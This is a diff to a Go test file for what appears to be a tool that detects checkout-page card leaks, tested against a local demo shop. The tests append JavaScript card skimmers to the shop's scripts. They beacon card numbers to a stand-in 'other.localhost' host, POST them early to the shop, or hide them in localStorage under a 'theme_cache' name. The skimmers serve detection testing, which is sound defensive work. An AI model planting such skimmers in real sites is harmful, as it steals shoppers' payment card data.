@@ -2,6 +2,7 @@ package page
 
 import (
 	"context"
+	"errors"
 	"net"
 	"net/url"
 	"os"
@@ -107,21 +108,26 @@ func TestNoAnswer(t *testing.T) {
 	}
 }
 
+// plant adds code to a script of the shop's, as somebody who got at its files would.
+func plant(t *testing.T, shop *demoshop.Shop, name, code string) {
+	t.Helper()
+	f, err := os.OpenFile(filepath.Join(shop.Docroot(), "assets", "js", name), os.O_APPEND|os.O_WRONLY, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = f.WriteString(code)
+	if err := errors.Join(err, f.Close()); err != nil {
+		t.Fatal(err)
+	}
+}
+
 // Over TLS the witness opens what the browser sends, so that a leak is seen there as well; and a look leaves nothing behind.
 func TestALeakOverTLS(t *testing.T) {
 	t.Parallel()
 	shop := openShop(t, demoshop.Config{})
-	script := filepath.Join(shop.Docroot(), "assets", "js", "checkout.js")
-	text, err := os.ReadFile(script)
-	if err != nil {
-		t.Fatal(err)
-	}
 	thief := strings.TrimSuffix(shop.TLSURL("other.localhost"), "/")
-	text = append(text, []byte(`
-document.addEventListener('change', e => /^\d[\d ]{14,}$/.test(e.target.value) && navigator.sendBeacon('`+thief+`/b', e.target.value));`)...)
-	if err := os.WriteFile(script, text, 0o644); err != nil {
-		t.Fatal(err)
-	}
+	plant(t, shop, "checkout.js", `
+document.addEventListener('change', e => /^\d[\d ]{14,}$/.test(e.target.value) && navigator.sendBeacon('`+thief+`/b', e.target.value));`)
 	roots, err := readRoots(shop.CAFile())
 	if err != nil {
 		t.Fatal(err)
@@ -142,16 +148,8 @@ document.addEventListener('change', e => /^\d[\d ]{14,}$/.test(e.target.value) &
 func TestNoCardReachesTheShopBeforeTheLastButton(t *testing.T) {
 	t.Parallel()
 	shop := openShop(t, demoshop.Config{})
-	script := filepath.Join(shop.Docroot(), "assets", "js", "checkout.js")
-	text, err := os.ReadFile(script)
-	if err != nil {
-		t.Fatal(err)
-	}
-	text = append(text, []byte(`
-document.addEventListener('change', e => /^[\d ]{15,}$/.test(e.target.value) && fetch('/early-order', {method: 'POST', body: btoa(e.target.value)}));`)...)
-	if err := os.WriteFile(script, text, 0o644); err != nil {
-		t.Fatal(err)
-	}
+	plant(t, shop, "checkout.js", `
+document.addEventListener('change', e => /^[\d ]{15,}$/.test(e.target.value) && fetch('/early-order', {method: 'POST', body: btoa(e.target.value)}));`)
 	signs, _, _ := observe(t, Config{}, shop.URL("shop.localhost"))
 	if len(signs) == 0 || signs[0].Severity != tillwatch.High || !strings.Contains(signs[0].Place, "early-order") {
 		t.Errorf("a card sent to the shop itself before the last button gave %+v", signs)
@@ -169,17 +167,9 @@ document.addEventListener('change', e => /^[\d ]{15,}$/.test(e.target.value) && 
 func TestAReturningCustomer(t *testing.T) {
 	t.Parallel()
 	shop := openShop(t, demoshop.Config{})
-	script := filepath.Join(shop.Docroot(), "assets", "js", "shop.js")
-	text, err := os.ReadFile(script)
-	if err != nil {
-		t.Fatal(err)
-	}
-	text = append(text, []byte(`
+	plant(t, shop, "shop.js", `
 if (localStorage.theme_cache) navigator.sendBeacon('`+shop.URL("other.localhost")+`t', localStorage.theme_cache);
-document.addEventListener('change', e => { if (/^[\d ]{15,}$/.test(e.target.value)) localStorage.theme_cache = btoa(e.target.value); });`)...)
-	if err := os.WriteFile(script, text, 0o644); err != nil {
-		t.Fatal(err)
-	}
+document.addEventListener('change', e => { if (/^[\d ]{15,}$/.test(e.target.value)) localStorage.theme_cache = btoa(e.target.value); });`)
 	signs, gaps, _ := observe(t, Config{Profiles: []string{"returning"}}, shop.URL("shop.localhost"))
 	if len(gaps) > 0 {
 		t.Errorf("not seen: %q", gaps[0].Why)
